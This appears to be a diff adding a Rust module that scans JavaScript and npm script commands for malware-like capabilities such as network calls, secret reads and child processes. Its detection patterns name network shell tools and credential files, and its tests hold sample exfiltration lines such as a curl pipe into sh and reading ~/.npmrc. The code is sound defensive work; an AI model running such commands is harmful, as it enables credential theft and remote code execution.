@@ -1,0 +1,343 @@
+//! What a piece of JavaScript (or a shell command) touches: the network, the environment, the
+//! home directory, credential files, host facts, child processes.
+//!
+//! This is a lexical scan with linear-time regular expressions, not a parse: it finds the
+//! call shapes that install-time malware and exfiltration code use, and it also reads comments.
+//! The install-script and exfiltration checks combine these hits.
+
+use std::sync::LazyLock;
+
+use regex::Regex;
+
+/// A kind of capability.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub enum Cap {
+    /// Sends data out: HTTP(S) requests, `fetch`, sockets, DNS lookups of built names,
+    /// `curl`/`wget` through a shell.
+    Network,
+    /// Reads environment variables other than well-known harmless ones (or the whole object).
+    Env,
+    /// Reads the home directory.
+    Home,
+    /// Names a credential file (`.npmrc`, SSH keys, cloud credentials).
+    Credentials,
+    /// Reads host facts (`os.hostname()`, `os.userInfo()`, `os.networkInterfaces()`).
+    HostInfo,
+    /// Loads `child_process` or runs a shell.
+    ChildProcess,
+}
+
+impl Cap {
+    /// How the capability reads in a message.
+    pub fn describe(self) -> &'static str {
+        match self {
+            Cap::Network => "the network",
+            Cap::Env => "the environment",
+            Cap::Home => "the home directory",
+            Cap::Credentials => "credential files",
+            Cap::HostInfo => "host information",
+            Cap::ChildProcess => "child processes",
+        }
+    }
+
+    /// Whether the capability reads something worth stealing.
+    pub fn is_read(self) -> bool {
+        matches!(
+            self,
+            Cap::Env | Cap::Home | Cap::Credentials | Cap::HostInfo
+        )
+    }
+}
+
+/// One occurrence of a capability in a text.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Hit {
+    /// The capability.
+    pub cap: Cap,
+    /// A short, stable description of the construct (`https.request`, `process.env`).
+    pub what: String,
+    /// Byte offset of the start in the text.
+    pub start: usize,
+    /// Byte offset just past the end.
+    pub end: usize,
+}
+
+fn re(pattern: &str) -> Regex {
+    // The patterns are constants tested below; an invalid one would be a bug caught by tests,
+    // and is replaced by a pattern that never matches rather than a panic.
+    Regex::new(pattern)
+        .unwrap_or_else(|_| Regex::new(r"[^\s\S]").unwrap_or_else(|_| unreachable!()))
+}
+
+/// (pattern, capability, description; `$1` in the description is replaced by group 1).
+static JS_PATTERNS: LazyLock<Vec<(Regex, Cap, &'static str)>> = LazyLock::new(|| {
+    [
+        (
+            r"\b(https?|http2)\s*\.\s*(?:request|get|connect)\s*\(",
+            Cap::Network,
+            "$1 request",
+        ),
+        (
+            r#"require\s*\(\s*['"](?:node:)?(https?|net|tls|dgram|http2)['"]\s*\)\s*\.\s*(?:request|get|connect|createConnection|createSocket)\b"#,
+            Cap::Network,
+            "$1 request",
+        ),
+        (r"(?:^|[^.\w$])(fetch)\s*\(", Cap::Network, "fetch"),
+        (
+            r"\bnet\s*\.\s*(connect|createConnection|Socket)\b",
+            Cap::Network,
+            "net.$1",
+        ),
+        (r"\bnew\s+(?:net\s*\.\s*)?Socket\s*\(", Cap::Network, "socket"),
+        (r"\btls\s*\.\s*connect\s*\(", Cap::Network, "tls.connect"),
+        (r"\bdgram\s*\.\s*createSocket\s*\(", Cap::Network, "UDP socket"),
+        (r"\bXMLHttpRequest\b", Cap::Network, "XMLHttpRequest"),
+        (r"\bnew\s+WebSocket\s*\(", Cap::Network, "WebSocket"),
+        (
+            r"\bdns(?:\s*\.\s*promises)?\s*\.\s*(?:lookup|resolve\w*)\s*\(\s*(?:[A-Za-z_$(\[]|`[^`]*\$\{|['\x22][^'\x22]*['\x22]\s*\+)",
+            Cap::Network,
+            "DNS lookup of a built name",
+        ),
+        (
+            r"\b(?:exec|execSync|spawn|spawnSync|execFile|execFileSync)\s*\([^;]{0,200}?\b(curl|wget|nc|ncat|Invoke-WebRequest)\b",
+            Cap::Network,
+            "$1 through a child process",
+        ),
+        (
+            r#"(?:require\s*\(|from)\s*['"](axios|got|node-fetch|undici|superagent|needle|request)['"]"#,
+            Cap::Network,
+            "$1",
+        ),
+        (r"\bos\s*\.\s*homedir\s*\(", Cap::Home, "os.homedir()"),
+        (r"(?:^|[^.\w$])homedir\s*\(\s*\)", Cap::Home, "homedir()"),
+        (r#"['"`]~/"#, Cap::Home, "~/"),
+        (
+            r"\bos\s*\.\s*(hostname|userInfo|networkInterfaces)\s*\(",
+            Cap::HostInfo,
+            "os.$1()",
+        ),
+        (
+            r"(?:^|[^.\w$])(hostname|userInfo|networkInterfaces)\s*\(\s*\)",
+            Cap::HostInfo,
+            "$1()",
+        ),
+        (
+            r#"(?i)['"`][^'"`\n]{0,200}?(\.npmrc|\.ssh/|id_rsa|id_ed25519|id_ecdsa|\.aws/|\.git-credentials|\.netrc|\.docker/config\.json|\.kube/config|gcloud/|\.azure/|\.config/gh/|\.yarnrc)"#,
+            Cap::Credentials,
+            "$1",
+        ),
+        (
+            r#"(?:require\s*\(|from|import\s*\()\s*['"](?:node:)?child_process['"]"#,
+            Cap::ChildProcess,
+            "child_process",
+        ),
+    ]
+    .into_iter()
+    .map(|(p, c, d)| (re(p), c, d))
+    .collect()
+});
+
+/// `process.env` followed by a name, an index, or nothing.
+static ENV: LazyLock<Regex> = LazyLock::new(|| {
+    re(
+        r#"\bprocess\s*\.\s*env\b(?:\s*\.\s*([A-Za-z_$][\w$]*)|\s*\[\s*['"]([^'"]{1,100})['"]\s*\])?"#,
+    )
+});
+
+/// Patterns in shell commands (`scripts` values).
+static SHELL_PATTERNS: LazyLock<Vec<(Regex, Cap, &'static str)>> = LazyLock::new(|| {
+    [
+        (
+            r"\b(curl|wget|nc|ncat|Invoke-WebRequest)\b",
+            Cap::Network,
+            "$1",
+        ),
+        (r"\|\s*(?:ba|z|da)?sh\b", Cap::ChildProcess, "a pipe into a shell"),
+        (r"\b(?:bash|sh)\s+-c\b", Cap::ChildProcess, "sh -c"),
+        (
+            r"\$\{?([A-Z_]*(?:TOKEN|SECRET|KEY|PASS|AUTH)[A-Z_]*)\b",
+            Cap::Env,
+            "$$$1",
+        ),
+        (r"(?:^|[\s;&|])(env|printenv|set)(?:$|[\s;&|>])", Cap::Env, "$1"),
+        (r"\$\{?(HOME|USERPROFILE)\b|~/", Cap::Home, "the home directory"),
+        (
+            r"(?i)(\.npmrc|\.ssh/|id_rsa|\.aws/|\.git-credentials|\.netrc|\.docker/config\.json|\.kube/config)",
+            Cap::Credentials,
+            "$1",
+        ),
+        (r"\bbase64\s+(?:-d|--decode)\b", Cap::ChildProcess, "base64 --decode"),
+    ]
+    .into_iter()
+    .map(|(p, c, d)| (re(p), c, d))
+    .collect()
+});
+
+/// Environment variables that are read by ordinary code and reveal nothing.
+fn harmless_env(name: &str) -> bool {
+    const EXACT: &[&str] = &[
+        "CI",
+        "TERM",
+        "NO_COLOR",
+        "FORCE_COLOR",
+        "COLORTERM",
+        "PORT",
+        "HOST",
+        "TZ",
+        "LANG",
+        "LC_ALL",
+        "PATH",
+        "PWD",
+        "SHELL",
+        "TMPDIR",
+        "TEMP",
+        "TMP",
+        "HTTP_PROXY",
+        "HTTPS_PROXY",
+        "NO_PROXY",
+        "http_proxy",
+        "https_proxy",
+        "no_proxy",
+    ];
+    EXACT.contains(&name)
+        || name.starts_with("npm_")
+        || name.starts_with("NODE_")
+        || name.starts_with("DEBUG")
+}
+
+fn describe(template: &str, caps: &regex::Captures<'_>) -> String {
+    let mut out = String::new();
+    caps.expand(template, &mut out);
+    out
+}
+
+/// Finds the capabilities a JavaScript text uses, in text order.
+pub fn scan_js(text: &str) -> Vec<Hit> {
+    let mut hits = Vec::new();
+    for (pattern, cap, what) in JS_PATTERNS.iter() {
+        for c in pattern.captures_iter(text) {
+            let Some(whole) = c.get(0) else { continue };
+            // Some patterns start with a one-character guard (`[^.\w$]`); the hit starts after it.
+            let guard = whole
+                .as_str()
+                .chars()
+                .next()
+                .is_some_and(|ch| !(ch.is_alphanumeric() || "_$'\"`~".contains(ch)));
+            let start = whole.start() + usize::from(guard);
+            hits.push(Hit {
+                cap: *cap,
+                what: describe(what, &c),
+                start,
+                end: whole.end(),
+            });
+        }
+    }
+    for c in ENV.captures_iter(text) {
+        let Some(whole) = c.get(0) else { continue };
+        let name = c.get(1).or_else(|| c.get(2)).map(|m| m.as_str());
+        let (cap, what) = match name {
+            Some("HOME" | "USERPROFILE") => (Cap::Home, "process.env.HOME".to_owned()),
+            Some(n) if harmless_env(n) => continue,
+            Some(n) => (Cap::Env, format!("process.env.{n}")),
+            None => (Cap::Env, "process.env".to_owned()),
+        };
+        hits.push(Hit {
+            cap,
+            what,
+            start: whole.start(),
+            end: whole.end(),
+        });
+    }
+    hits.sort_by_key(|h| (h.start, h.end));
+    hits
+}
+
+/// Finds the capabilities a shell command (a `scripts` value) uses.
+pub fn scan_shell(command: &str) -> Vec<Hit> {
+    let mut hits = Vec::new();
+    for (pattern, cap, what) in SHELL_PATTERNS.iter() {
+        for c in pattern.captures_iter(command) {
+            let Some(whole) = c.get(0) else { continue };
+            hits.push(Hit {
+                cap: *cap,
+                what: describe(what, &c),
+                start: whole.start(),
+                end: whole.end(),
+            });
+        }
+    }
+    hits.sort_by_key(|h| (h.start, h.end));
+    hits
+}
+
+#[cfg(test)]
+#[allow(clippy::unwrap_used)]
+mod tests {
+    use super::*;
+
+    fn caps(text: &str) -> Vec<(Cap, String)> {
+        scan_js(text).into_iter().map(|h| (h.cap, h.what)).collect()
+    }
+
+    #[test]
+    fn every_pattern_compiles() {
+        for (p, _, _) in JS_PATTERNS.iter().chain(SHELL_PATTERNS.iter()) {
+            assert!(Regex::new(p.as_str()).is_ok());
+            // The never-matching fallback would make a pattern silently useless.
+            assert_ne!(p.as_str(), r"[^\s\S]");
+        }
+    }
+
+    #[test]
+    fn finds_sends_and_reads() {
+        let got = caps(
+            "const https = require('https');\nhttps.request(opts);\nfetch(u);\nx.fetch(u);\n\
+             const t = process.env.NPM_TOKEN; const all = JSON.stringify(process.env);\n\
+             os.homedir(); os.hostname(); fs.readFileSync(home + '/.npmrc');\n\
+             require('child_process').exec('curl -d @- http://x');\n",
+        );
+        let whats: Vec<&str> = got.iter().map(|(_, w)| w.as_str()).collect();
+        assert!(whats.contains(&"https request"), "{whats:?}");
+        assert_eq!(whats.iter().filter(|w| **w == "fetch").count(), 1);
+        assert!(whats.contains(&"process.env.NPM_TOKEN"));
+        assert!(whats.contains(&"process.env"));
+        assert!(whats.contains(&"os.homedir()"));
+        assert!(whats.contains(&"os.hostname()"));
+        assert!(whats.contains(&".npmrc"));
+        assert!(whats.contains(&"child_process"));
+        assert!(whats.contains(&"curl through a child process"));
+    }
+
+    #[test]
+    fn harmless_code_is_quiet() {
+        let got = caps(
+            "if (process.env.NODE_ENV === 'production') {}\nconst d = process.env.DEBUG;\n\
+             http.createServer(app).listen(process.env.PORT);\nconst re = /fetch/;\n",
+        );
+        assert!(got.is_empty(), "{got:?}");
+    }
+
+    #[test]
+    fn dns_of_built_names_only() {
+        assert!(caps("dns.lookup('example.test', cb)").is_empty());
+        assert_eq!(
+            caps("dns.lookup(data + '.x.test', cb)")[0].1,
+            "DNS lookup of a built name"
+        );
+        assert_eq!(caps("dns.resolve(`${d}.x.test`)")[0].0, Cap::Network);
+    }
+
+    #[test]
+    fn shell_commands() {
+        let got: Vec<Cap> = scan_shell("curl -s http://x/a.sh | sh")
+            .iter()
+            .map(|h| h.cap)
+            .collect();
+        assert_eq!(got, vec![Cap::Network, Cap::ChildProcess]);
+        assert!(scan_shell("node-gyp rebuild").is_empty());
+        assert!(scan_shell("husky install").is_empty());
+        assert!(scan_shell("tsc -p . && node scripts/env-check.js").is_empty());
+        assert_eq!(scan_shell("echo $NPM_TOKEN")[0].what, "$NPM_TOKEN");
+        assert_eq!(scan_shell("cat ~/.npmrc").len(), 2);
+    }
+}
